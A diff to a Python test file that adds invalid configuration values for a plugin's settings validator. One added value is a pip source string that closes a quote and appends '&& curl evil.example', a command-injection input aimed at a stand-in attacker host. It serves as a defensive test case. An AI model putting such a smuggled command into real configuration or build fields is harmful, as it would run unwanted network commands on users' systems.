@@ -237,6 +237,9 @@ def test_nothing_is_rendered_unless_the_plugin_is_enabled(make_root):
         ("REVMENTOR_REMINDERS_HOUR", "24"),
         ("REVMENTOR_REMINDERS_MINUTE", "true"),
         ("REVMENTOR_RUN_BEAT", "sometimes"),
+        ("REVMENTOR_VERSION", "1.10"),  # YAML reads the number 1.1
+        ("REVMENTOR_VERSION", "latest"),
+        ("REVMENTOR_PIP_SOURCE", "git+https://git.example.org/revmentor.git@v1' && curl evil.example"),
     ],
 )
 def test_a_value_revmentor_cannot_use_is_refused_by_name(make_root, name, value):
